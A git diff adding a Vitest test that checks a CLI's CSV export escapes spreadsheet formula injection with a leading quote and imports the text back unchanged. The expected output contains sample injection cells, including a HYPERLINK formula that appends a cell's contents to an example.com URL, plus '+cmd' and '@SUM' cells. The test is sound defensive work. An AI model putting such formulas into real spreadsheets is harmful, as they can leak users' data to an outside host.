@@ -5,7 +5,8 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
-import { HYPOTHESIS, VALID_FILES } from '../helpers/records.js';
+import { parseCsvText } from '../../src/store/parse-csv.js';
+import { HYPOTHESIS, SPREADSHEET_HAZARDS, VALID_FILES } from '../helpers/records.js';
 import { checkJson, runCli } from '../helpers/run-cli.js';
 import { makeRepo } from '../helpers/temp-repo.js';
 
@@ -118,6 +119,24 @@ describe('hypo export, then hypo import', () => {
       );
     }
     expect((await checkJson(target.root)).json.problems.filter((problem) => problem.severity === 'error')).toEqual([]);
+  });
+
+  it('writes text a spreadsheet would evaluate with a leading quote, and imports it back as the exact text', async () => {
+    const source = makeRepo(SPREADSHEET_HAZARDS);
+    expect((await runCli(['-C', source.root, 'export', '--kind', 'hypothesis', '--out', 'hazards.csv'])).code).toBe(0);
+    const csv = readFileSync(path.join(source.root, 'hazards.csv'), 'utf8');
+    expect(csv).toContain(
+      `,"'=HYPERLINK(""https://example.com/?d=""&B2,""Öppna"")",'=1+1,open,'+cmd,'-köpa,'@SUM(A1),,'\t=2+2 är fyra,,,'@elin,,,'-a; =b; @c,,''=redan citerad\r\n`,
+    );
+    const cells = parseCsvText(csv, 'hazards.csv').rows.flatMap((row) => row.cells);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    // Leading zeros and fractions are no formulas: they are written as they are (docs/spreadsheets.md says how to keep them).
+    expect(cells).toEqual(expect.arrayContaining(['0012', '1/2', "'til; ö"]));
+
+    const target = await initialisedRepo();
+    const imported = await runCli(['-C', target.root, 'import', 'csv', path.join(source.root, 'hazards.csv'), '--kind', 'hypothesis']);
+    expect(imported).toMatchObject({ code: 0, stderr: '' });
+    expect(recordsIn(path.join(target.root, 'learning/hypotheses'))).toEqual(recordsIn(path.join(source.root, 'learning/hypotheses')));
   });
 });
 
